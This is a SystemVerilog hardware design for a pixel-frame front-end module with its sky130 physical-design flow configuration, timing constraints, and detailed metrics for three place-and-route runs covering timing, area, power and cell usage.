`src/fcd_pkg.sv`:
```
package fcd_pkg;

    localparam int CFG_W     = 11;
    localparam int CFG_IDX_W = 1;
    localparam int DIM_W     = 13;
    localparam int COLOR_W   = 8;
    localparam int RGB_W     = 3 * COLOR_W;
    localparam int POS_OUT_W = 10;
    localparam int COUNT_W   = 21;
    localparam int KIND_W    = 2;

    localparam logic [CFG_IDX_W-1:0] REG_FRAME_WIDTH  = 1'd0;
    localparam logic [CFG_IDX_W-1:0] REG_FRAME_HEIGHT = 1'd1;

    localparam logic [CFG_W-1:0]   SIZE_RESET = 11'd1024;
    localparam logic [COUNT_W-1:0] COUNT_MAX  = 21'h1FFFFF;

    localparam logic [KIND_W-1:0] KIND_CHANGED = 2'd0;
    localparam logic [KIND_W-1:0] KIND_SUMMARY = 2'd1;
    localparam logic [KIND_W-1:0] KIND_LOADED  = 2'd2;

    typedef struct packed {
        logic [KIND_W-1:0]    kind;
        logic [POS_OUT_W-1:0] column;
        logic [POS_OUT_W-1:0] row;
        logic [COLOR_W-1:0]   red;
        logic [COLOR_W-1:0]   green;
        logic [COLOR_W-1:0]   blue;
        logic [COUNT_W-1:0]   changed_count;
        logic                 last;
    } result_t;

endpackage

```
`src/fcd_if.sv`:
```
interface fcd_pixel_if;
    logic       valid;
    logic       ready;
    logic [7:0] pixel_red;
    logic [7:0] pixel_green;
    logic [7:0] pixel_blue;

    modport source (output valid, output pixel_red, output pixel_green, output pixel_blue,
                    input ready);
    modport sink (input valid, input pixel_red, input pixel_green, input pixel_blue,
                  output ready);
endinterface


```
`src/fcd_front.sv`:
```
module fcd_front #(
    parameter int MAX_WIDTH  = 1024,
    parameter int MAX_HEIGHT = 1024,
    parameter int REQ_W      = 45
) (
    input  logic                            clk,
    input  logic                            rst_n,
    fcd_pixel_if.sink                       pixels,
    input  logic                            cfg_we,
    input  logic [fcd_pkg::CFG_IDX_W-1:0]   cfg_index,
    input  logic [fcd_pkg::CFG_W-1:0]       cfg_data,
    input  logic                            queue_full,
    output logic                            queue_push,
    output logic [REQ_W-1:0]                queue_data
);
    import fcd_pkg::*;

    localparam int CW = (MAX_WIDTH > 1) ? $clog2(MAX_WIDTH) : 1;
    localparam int RW = (MAX_HEIGHT > 1) ? $clog2(MAX_HEIGHT) : 1;

    typedef struct packed {
        logic [RGB_W-1:0] rgb;
        logic [RW-1:0]    row;
        logic [CW-1:0]    col;
        logic             end_frame;
    } req_t;

    logic [CFG_W-1:0] width_reg, height_reg;
    logic [CW-1:0]    col_reg, col_next;
    logic [RW-1:0]    row_reg, row_next;
    logic [DIM_W-1:0] w_eff, h_eff;
    logic             end_row, end_frame, accept;
    req_t             req;

    // zero acts as one, oversize acts as the maximum
    always_comb
    begin
        priority if (width_reg == '0)
            w_eff = DIM_W'(1);
        else if (DIM_W'(width_reg) > DIM_W'(MAX_WIDTH))
            w_eff = DIM_W'(MAX_WIDTH);
        else
            w_eff = DIM_W'(width_reg);
        priority if (height_reg == '0)
            h_eff = DIM_W'(1);
        else if (DIM_W'(height_reg) > DIM_W'(MAX_HEIGHT))
            h_eff = DIM_W'(MAX_HEIGHT);
        else
            h_eff = DIM_W'(height_reg);
    end

    assign end_row   = (DIM_W'(col_reg) + DIM_W'(1)) >= w_eff;
    assign end_frame = end_row && ((DIM_W'(row_reg) + DIM_W'(1)) >= h_eff);
    assign accept    = pixels.valid && !queue_full;

    assign pixels.ready = !queue_full;
    assign queue_push   = accept;

    always_comb
    begin
        req.rgb       = {pixels.pixel_red, pixels.pixel_green, pixels.pixel_blue};
        req.row       = row_reg;
        req.col       = col_reg;
        req.end_frame = end_frame;
        queue_data    = req;
    end

    always_comb
    begin
        col_next = col_reg;
        row_next = row_reg;
        if (cfg_we)
        begin
            col_next = '0;
            row_next = '0;
        end
        else if (accept)
        begin
            priority if (end_frame)
            begin
                col_next = '0;
                row_next = '0;
            end
            else if (end_row)
            begin
                col_next = '0;
                row_next = row_reg + 1'b1;
            end
            else
            begin
                col_next = col_reg + 1'b1;
            end
        end
    end

    always_ff @(posedge clk or negedge rst_n)
    begin
        if (!rst_n)
        begin
            width_reg  <= SIZE_RESET;
            height_reg <= SIZE_RESET;
            col_reg    <= '0;
            row_reg    <= '0;
        end
        else
        begin
            col_reg <= col_next;
            row_reg <= row_next;
            if (cfg_we && cfg_index == REG_FRAME_WIDTH)
            begin
                width_reg <= cfg_data;
            end
            if (cfg_we && cfg_index == REG_FRAME_HEIGHT)
            begin
                height_reg <= cfg_data;
            end
        end
    end
endmodule

```
`src/flat_wrapper.sv`:
```
// flat-port wrapper written by rule: the top's interface ports become plain ports
module fcd_front_flat import fcd_pkg::*;
#(
    parameter int MAX_WIDTH  = 1024,
    parameter int MAX_HEIGHT = 1024,
    parameter int REQ_W      = 45
)
  (clk, rst_n, cfg_we, cfg_index, cfg_data, queue_full, queue_push, queue_data, pixels_valid, pixels_pixel_red, pixels_pixel_green, pixels_pixel_blue, pixels_ready);
  fcd_pixel_if pixels_i ();
  input  logic clk;
  input  logic rst_n;
  input  logic cfg_we;
  input  logic [fcd_pkg::CFG_IDX_W-1:0] cfg_index;
  input  logic [fcd_pkg::CFG_W-1:0] cfg_data;
  input  logic queue_full;
  output logic queue_push;
  output logic [REQ_W-1:0] queue_data;
  input wire logic [$bits(pixels_i.valid)-1:0] pixels_valid;
  input wire logic [$bits(pixels_i.pixel_red)-1:0] pixels_pixel_red;
  input wire logic [$bits(pixels_i.pixel_green)-1:0] pixels_pixel_green;
  input wire logic [$bits(pixels_i.pixel_blue)-1:0] pixels_pixel_blue;
  output wire logic [$bits(pixels_i.ready)-1:0] pixels_ready;
  assign pixels_i.valid = pixels_valid;
  assign pixels_i.pixel_red = pixels_pixel_red;
  assign pixels_i.pixel_green = pixels_pixel_green;
  assign pixels_i.pixel_blue = pixels_pixel_blue;
  assign pixels_ready = pixels_i.ready;
  fcd_front #(.MAX_WIDTH(MAX_WIDTH), .MAX_HEIGHT(MAX_HEIGHT), .REQ_W(REQ_W)) u_core (.clk(clk), .rst_n(rst_n), .pixels(pixels_i), .cfg_we(cfg_we), .cfg_index(cfg_index), .cfg_data(cfg_data), .queue_full(queue_full), .queue_push(queue_push), .queue_data(queue_data));
endmodule
```
`config.mk`:
```
export PLATFORM = sky130hd
export DESIGN_NAME = fcd_front_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/fcd_pkg.sv /design/src/fcd_if.sv /design/src/fcd_front.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CAP_MARGIN = 20
export CORE_ASPECT_RATIO = 0.6
export CORE_UTILIZATION = 57
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_TIMING_DRIVEN = 0
export HOLD_SLACK_MARGIN = 0.06
export PLACE_DENSITY = 0.95
export REMOVE_ABC_BUFFERS = 1
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```
`constraint.sdc`:
```
create_clock -name clk -period 6.6 [get_ports clk]
set_clock_uncertainty 0.2 [all_clocks]
set_input_delay 0.66 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.66 -clock clk [all_outputs]
set_load 0.03 [all_outputs]
```
==> results of run 1 <==
-- worst paths after layout --
kind                                       from                    end  slack, ns  depth (start not counted)
max in group asynchronous                 rst_n  u_core.height_reg[10]       5.54                          2
setup reg to reg            u_core.width_reg[2]      u_core.row_reg[1]       3.41                         14
min in group clk           u_core.width_reg[10]   u_core.width_reg[10]       0.30                          2
hold / removal                            rst_n    u_core.width_reg[2]       0.09                          1
setup / recovery           u_core.height_reg[3]          queue_data[0]       2.49                         13
hold reg to reg            u_core.width_reg[10]   u_core.width_reg[10]       0.30                          2
-- worst max-delay path, delay by kind of cell (launching register included) --
| kind | cells | cell delay (ns) |
|---|---|---|
| adder cells (fa/ha/maj) | 1 | 0.32 |
| flip-flops | 1 | 0.41 |
| buffers and inverters | 1 | 0.19 |
| AND/OR/NAND/NOR | 11 | 2.03 |
-- area by class of cell --
class                      count  area (µm²)  area share (%)
multi-input combinational    291        1690            50.3
tap                           66        82.6            2.46
clock buffer                   7        76.3            2.28
clock inverter                 1        30.0           0.896
inverter                      55         209            6.23
timing repair buffer          40         215            6.42
sequential                    42        1050            31.4
-- metal layers --
metal	share of wire (%)	GRT usage, %
met4	1.4	8.53
met1	46	38.9
met5	0	0
met2	42	45.3
met3	10	9.24
-- power by group through the flow --
stage | Combinational [µW] | Clock (µW) | Sequential [µW]
final | 261 | 205 | 320
after global routing | 290 | 218 | 324
after CTS | 257 | 208 | 319
after detailed placement | 255 | 0 | 323
after global placement | 238 | 0 | 321
after floorplan | 166 | 0 | 335
-- stage by stage --
| stage | cell area [µm²] | power [µW] | instances | hold WS (ns) |
|---|---|---|---|---|
| 4_1_cts | 3330 | 784 | 501 | 0.301 |
| 6_report | 3350 | 786 | 502 | 0.0889 |
| 2_1_floorplan | 2950 | 501 | 388 | 0.164 |
| 5_1_grt | 3350 | 832 | 502 | 0.120 |
| 3_5_place_dp | 3230 | 579 | 493 | 0.288 |
| 3_3_place_gp | 3230 | 559 | 493 | 0.285 |
-- cell usage in the layout (no fill, tap or decap), types with 2 or more instances in the layout --
master and n:
a21oi_1 7, a21oi_2 9, buf_2 39, clkbuf_1 2, clkbuf_8 5, dfrtp_1 40, dfstp_2 2, ha_1 24
inv_1 48, inv_2 6, nand2_1 143, nand2_2 7, nand3_1 13, nand3_2 2, nand4_1 2, nor2_1 12
nor2_2 3, nor2_4 3, nor2_8 2, nor3_1 2, nor3_2 3, nor4_1 4, o21ai_0 24, o21ai_1 2
o21ai_2 7, or2_1 2, or2_2 2, xor2_1 8
-- Yosys cell counts (2+ instances only) --
master / number
nand3_1: 13
dfstp_2: 2
nor2_2: 3
clkbuf_1: 3
or2_2: 2
buf_6: 3
buf_4: 25
o21ai_0: 24
inv_2: 6
nor2_8: 2
nand4_1: 2
nor2_1: 12
nor4_1: 4
a21oi_1: 7
xor2_1: 8
dfrtp_1: 40
a21oi_2: 9
o21ai_2: 7
or2_1: 2
inv_1: 48
nand2_2: 7
ha_1: 24
nor3_2: 3
nand2_1: 143
buf_2: 2
nand3_2: 2
nor3_1: 2
o21ai_1: 2
nor2_4: 3
-- logic make-up (layout without fill, tap and decap cells) --
group | after synthesis | after routing
flip-flops | 42 | 42
adder cells (fa/ha/maj) | 24 | 24
AO/OA/AOI/OAI | 53 | 53
XOR/XNOR | 10 | 10
buffers and inverters | 88 | 103
AND/OR/NAND/NOR | 204 | 204
==> flow_metrics.tcl, run 1 <==
set metrics [dict create \
    worst_path_max_delay_cell "nand3_1" \
    cts_tree "yes" \
    clk_path_buf_depth 2 \
    switching_share_pct 38.4 \
    gp_congestion 0.852 \
    synth_xor_xnor_area_share_pct 2.98 \
    die_y_um 60.0 \
    htreeDepth 2 \
    nNetsFinal 500 \
    num_vias 2781 \
    area_growth_pct 5.06 \
    max_stage_delay_ns 0.47 \
    num_rows 20 \
    routed_wl_um 7900 \
    initial_core_util_pct 61.0 \
    post_drt_via_cell_ratio 5.54 \
    grt_max_degree 43 \
    path_class "register to output port" \
    powerDensity_nw_per_um2 234 \
    synthAdderAreaFrac_pct 9.41 \
    fin_ws_ns 2.49 \
    diodes 0 \
    clockRootBuffer "clkbuf_8" \
    period_needed_ns 4.11 \
    wl_per_cell_um 15.7 \
    synth_area_um2 3190 \
    ys_seq_area_share_pct 33.0 \
    synth_cells 421 \
    rsz0062_at_grt "false" \
    grt_pass1_vias 2574 \
    ant_nets 0 \
    synth-simple-area-share_pct 29.7 \
    end_kind "output port" \
    status "finished, final reports clean" \
    p_int_uw 485 \
    p_switching_uw 302 \
    yosysTopAreaCell "dfrtp_1" \
    hpwl_um 6030 \
    worst_ep_required_time_ns 5.74 \
    ys_ff_latch 42 \
    crit_path_frequent_cell "nand2_1" \
    cp_cell_sequence "nor4_1, nand3_1, nand2_1, nand2_1, ha_1, nand2_1, nor2_1, nand2_1, nand3_1, nand2_1, nand3_1, and2_1, buf_2" \
    portBuffers 39 \
    synth_top_cell_area_share_pct 31.4 \
    overflow 0 \
    synthTopCellsByArea "dfrtp_1 31%, nand2_1 17%, ha_1 9.4%" \
    synth_edf_count 0 \
    dieArea_um2 5910 \
    synth_top_family_by_area "simple AND/OR/NAND/NOR gates" \
    finalHoldViolCount 0 \
    synth_warnings 0 \
    final_layout_size_suffix_gt1_share_pct 22.2 \
    cts.clk_slew.worst_paths_ns 0.09 \
    antenna_found_initial 0 \
    hp-class "input port to async pin" \
    drc 0 \
    synth.avg_cell_area_um2 7.58 \
    yosysUniqueCellTypes 40 \
    synth-compound-area-share_pct 10.8 \
    p_leak_uw 0.00184 \
    ys.flop_type "dfrtp_1" \
    cp-start-kind "register" \
    async_reset_ff_share_pct 100 \
    seqPwrFrac_pct 40.7 \
    cp_max_fo 11 \
    max_slew_margin_pct 58.0 \
    clkPwrFrac_pct 26.1 \
    tightestPinTransition_ns 0.630 \
    report.final.slew_viol_count 0 \
    nFillCells 418 \
    insertion_delay_ns 0.31 \
    die_w_um 98.6 \
    clock_sinks 42 \
    postCtsSetupBuffers 0 \
    maxCapViolCount 0 \
    min_period_over_period_pct 62.3 \
    dr.pass1.iters 6 \
    synthMuxAreaShare_pct 0 \
    drt_iter0_drc 285 \
    tns_ns 0 \
    grt_usage_pct 28.9 \
    numCtsBuffers 5 \
    cp.arrival_ns 3.25 \
    finalCoreUtilization_pct 64.1 \
    ir_worst_vdd_mv 0.117 \
    fmax_ghz 0.243 \
    grt_pass1_wl_um 12700 \
    core_um2 5230 \
    p_comb_share_pct 33.2 \
    post-place-ws_ns 2.91 \
    ios 88 \
    hold_buffers 0 \
    cts-resized-gates 0 \
    setup_viol 0 \
]
Power figures use the tool's default switching activity.
==> run 2, diff against run 1 <==
CORE_UTILIZATION = 53   (was 57)
PLACE_DENSITY = 0.91   (was 0.95)
clock period = 4.1 ns   (was 6.6 ns; I/O delays follow)
==> run 2 against run 1 <==
  * Sequential share of layout area fell by 0.070 points
  * Wire length down 5.9%
  * Critical path depth decreased by 2
  * Clock power grew 69%
  * Flip-flop and latch count stayed put
  * Largest cell class unchanged
==> flow_metrics.tcl, run 2 (same netlist as run 1, synthesis figures left out) <==
set metrics [dict create \
    status "finished, final reports clean" \
    dr.pass1.iters 5 \
    antenna_found_initial 0 \
    hpwl_um 5810 \
    htreeDepth 2 \
    switching_share_pct 37.1 \
    final_cell_mix "143 x nand2_1, 48 x inv_1, 40 x dfrtp_1, 39 x buf_2" \
    finalHoldViolCount 0 \
    drc 0 \
    p_int_uw 794 \
    cts-resized-gates 0 \
    portBuffers 39 \
    p_comb_share_pct 32.1 \
    grt_pass1_vias 2586 \
    clk_path_buf_depth 2 \
    period_needed_ns 3.81 \
    clkPwrFrac_pct 27.4 \
    num_vias 2657 \
    drt_iter0_drc 172 \
    cp_cell_sequence "ha_1, nand2_1, nor2_1, nand3_1, nor3_1, ha_1, a21oi_1, a21boi_1, nand3_1, and2_1, buf_2" \
    worst_path_max_delay_cell "dfrtp_1" \
    path_class "register to output port" \
    die_w_um 102 \
    max_stage_delay_ns 0.47 \
    maxCapViolCount 0 \
    ant_nets 0 \
    grt_max_degree 43 \
    tightestPinTransition_ns 0.950 \
    grt_pass1_wl_um 12400 \
    final_layout_size_suffix_gt1_share_pct 22.3 \
    worst_ep_required_time_ns 3.49 \
    post-place-ws_ns 0.635 \
    cp-start-kind "register" \
    setup_viol 0 \
    hold_slack_ns 0.0476 \
    place_area_um2 3240 \
    final_area_um2 3360 \
    overflow 0 \
    fin_ws_ns 0.292 \
    post_drt_via_cell_ratio 5.16 \
    ir_worst_vdd_mv 0.192 \
    gp_congestion 0.877 \
    cts_tree "yes" \
    clockRootBuffer "clkbuf_8" \
    routed_wl_um 7430 \
    cts.clk_slew.worst_paths_ns 0.09 \
    postCtsSetupBuffers 0 \
    dieArea_um2 6350 \
    p_switching_uw 469 \
    path_buf_inv 1 \
    diodes 0 \
    ios 88 \
    numCtsBuffers 5 \
    grt_usage_pct 25.5 \
    min_period_over_period_pct 92.9 \
    max_slew_margin_pct 36.7 \
    core_um2 5680 \
    die_y_um 62.1 \
    hp-class "input port to async pin" \
    area_growth_pct 5.29 \
    insertion_delay_ns 0.30 \
    hold_buffers 0 \
    end_kind "output port" \
    powerDensity_nw_per_um2 376 \
    fmax_ghz 0.263 \
    finalCoreUtilization_pct 59.2 \
    cp.arrival_ns 3.20 \
    report.final.slew_viol_count 0 \
    cp_max_fo 11 \
    wl_per_cell_um 14.4 \
    final_common_cell "nand2_1" \
    seqPwrFrac_pct 40.6 \
    p_leak_uw 0.00184 \
    cp_top_family "simple AND/OR/NAND/NOR gates" \
    initial_core_util_pct 56.2 \
    rsz0062_at_grt "false" \
    num_rows 21 \
    tns_ns 0 \
    nNetsFinal 499 \
    clock_sinks 42 \
]
run 2: cell count changes in the layout (fill, tap and decap cells not counted):
cell / delta
buf_12: -1
clkbuf_1: -1
clkbuf_8: +1
run 2: through the flow:
step / total power [µW] / instances
after detailed placement: 922 / 507
after global routing: 1360 / 515
after floorplan: 807 / 388
after global placement: 901 / 507
final: 1260 / 515
after CTS: 1270 / 515
run 2: metal layers:
metal | GRT usage (%) | routed length (µm) | vias to the layer above
met1 | 39.0 | 3760 | 1211
met2 | 33.5 | 2910 | 116
li1 | - | - | 1326
met5 | 0 | 0 | -
met4 | 5.54 | 26 | 0
met3 | 9.23 | 739 | 4
run 2: cell type report:
class,count,area (µm²)
well taps,80,100
clock buffers,7,86.3
clock inverters,1,30.0
fillers,516,2310
inverters,55,209
multi-input cells,291,1690
flip-flops and latches,42,1050
repair buffers,39,195
run 2: worst paths after layout:
check | start | end | slack [ns] | cells after the start
min reg2reg | u_core.width_reg[10] | u_core.width_reg[10] | 0.32 | 2
min | rst_n | u_core.row_reg[1] | 0.05 | 1
max reg2reg | u_core.row_reg[0] | u_core.row_reg[9] | 1.04 | 12
min in group clk | cfg_data[10] | u_core.height_reg[10] | 0.18 | 3
max in group asynchronous | rst_n | u_core.width_reg[8] | 3.04 | 1
max | u_core.row_reg[0] | queue_data[0] | 0.29 | 11
run 2: power groups by stage:
stage / Sequential, µW / Combinational, µW / Clock [µW]
global placement: 517 / 385 / 0
CTS: 511 / 405 / 351
detailed placement: 519 / 404 / 0
global route: 519 / 467 / 373
finish: 512 / 405 / 346
floorplan: 540 / 267 / 0
==> run 3, diff against run 2 <==
CORE_ASPECT_RATIO = not set   (was 0.6)
CORE_UTILIZATION = 55   (was 53)
CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_8   (was not set)
PLACE_DENSITY = 0.93   (was 0.91)
==> run 3 against run 2 <==
  * Combinational power up 1%
  * Sequential share of layout area up 0.34 points
  * Core utilization up 0.79 points
  * Design area down 1.1%
==> flow_metrics.tcl, run 3 (same netlist as run 1, synthesis figures left out) <==
set metrics [dict create \
    status "finished, final reports clean" \
    hpwl_um 5470 \
    drt_iter0_drc 154 \
    cp.arrival_ns 3.13 \
    rsz0062_at_grt "false" \
    antenna_found_initial 0 \
    wl_per_cell_um 14.0 \
    die_w_um 78.2 \
    setup_viol 0 \
    report.final.slew_viol_count 0 \
    cts.clk_slew.worst_paths_ns 0.09 \
    diodes 0 \
    finalHoldViolCount 0 \
    path_buf_inv 2 \
    grt_pass1_wl_um 11900 \
    num_vias 2658 \
    period_needed_ns 3.74 \
    die_y_um 78.2 \
    postCtsSetupBuffers 0 \
    maxCapViolCount 0 \
    dieArea_um2 6110 \
    core_um2 5540 \
    grt_max_degree 43 \
    grt_pass1_vias 2593 \
    nFillCells 476 \
    max_slew_margin_pct 36.9 \
    cp_max_fo 11 \
    cp_top_family "simple AND/OR/NAND/NOR gates" \
    ant_nets 0 \
    drc 0 \
    place_area_um2 3230 \
    max_stage_delay_ns 0.48 \
    ios 88 \
    hp-class "input port to async pin" \
    area_growth_pct 4.16 \
    worst_ep_required_time_ns 3.49 \
    dr.pass1.iters 5 \
    insertion_delay_ns 0.31 \
    numCtsBuffers 5 \
    end_kind "output port" \
    ir_worst_vdd_mv 0.236 \
    path_class "register to output port" \
    final_layout_size_suffix_gt1_share_pct 22.5 \
    powerDensity_nw_per_um2 361 \
    htreeDepth 2 \
    final_area_um2 3320 \
    total_power_uw 1200 \
    crit_path_frequent_cell "nand2_1" \
    tightestPinTransition_ns 0.946 \
    clockRootBuffer "clkbuf_8" \
    clock_sinks 42 \
    post_drt_via_cell_ratio 5.24 \
    fmax_ghz 0.267 \
    final_cell_mix "143 x nand2_1, 48 x inv_1, 40 x dfrtp_1, 39 x buf_2" \
    overflow 0 \
    cp-start-kind "register" \
    num_rows 27 \
    cts-resized-gates 0 \
    worst_path_max_delay_cell "dfrtp_1" \
    hold_buffers 0 \
    initial_core_util_pct 57.6 \
    routed_wl_um 7100 \
    clk_path_buf_depth 2 \
    grt_usage_pct 25.3 \
    min_period_over_period_pct 91.2 \
    cts_tree "yes" \
    tns_ns 0 \
    gp_congestion 0.853 \
    final_common_cell "nand2_1" \
    cp_cell_sequence "ha_1, nand2_1, nor2_1, nand3_1, nand2_1, inv_1, ha_1, nand2_1, nand2_1, nand2_1, nand2_1, a21boi_1, nand3_1, and2_1, buf_2" \
    nNetsFinal 499 \
    portBuffers 39 \
    p_leak_uw 0.00182 \
]
-- run 3: cell count changes in the layout (fill, tap and decap cells not counted) --
cell        previous run  this run
clkinv_2               0         1
clkbuf_8               6         5
bufinv_16              1         0
clkinvlp_4             0         1
clkbuf_1               1         0
clkinv_4               0         1
-- run 3: where the power goes --
group | internal, µW | switching, µW
combinational | 135 | 274
sequential | 460 | 51.8
clock | 120 | 159
-- run 3: routing by layer --
layer | routed length (µm) | global-route usage, %
met5 | 0 | 0
met4 | 145 | 9.44
met3 | 515 | 8.26
met2 | 3230 | 39.6
met1 | 3210 | 32.5
-- run 3: worst paths after layout --
| kind | endpoint | slack, ns | depth (start not counted) | from |
|---|---|---|---|---|
| max in group asynchronous | u_core.height_reg[6] | 3.07 | 1 | rst_n |
| min in group clk | u_core.height_reg[10] | 0.14 | 3 | cfg_data[10] |
| min | u_core.row_reg[6] | 0.04 | 1 | rst_n |
| min reg2reg | u_core.width_reg[10] | 0.30 | 2 | u_core.width_reg[10] |
| max | queue_data[0] | 0.36 | 15 | u_core.row_reg[0] |
| max reg2reg | u_core.row_reg[8] | 1.09 | 15 | u_core.col_reg[0] |
-- run 3: final cells by class --
type,count,area (µm²),share of cell area [%]
clock buffers,5,68.8,2.07
flip-flops and latches,42,1050,31.7
clock inverters,3,21.3,0.640
repair buffers,39,195,5.87
multi-input cells,291,1690,50.7
inverters,55,209,6.29
well taps,72,90.1,2.71
-- run 3: per-stage QoR --
step,cells,util [%],hold slack [ns],setup slack (ns)
floorplan,388,-,-0.0856,0.875
global placement,499,58.4,0.284,0.776
detailed placement,499,58.4,0.289,0.710
CTS,507,60.0,0.0721,0.369
global route,507,60.0,0.128,0.0635
finish,507,60.0,0.0399,0.361
-- run 3: worst reg2reg max path: stages (launching register included) --
cell	delay [ns]
dfrtp_1	0.50
ha_1	0.29
nand3_2	0.12
or2_1	0.26
nand2_2	0.10
inv_1	0.05
ha_1	0.35
nand2_1	0.09
nor2_1	0.05
nand3_1	0.07
nand2_1	0.06
inv_2	0.06
nand3_4	0.23
o21ai_4	0.36
nand2_1	0.08
nand2_1	0.09
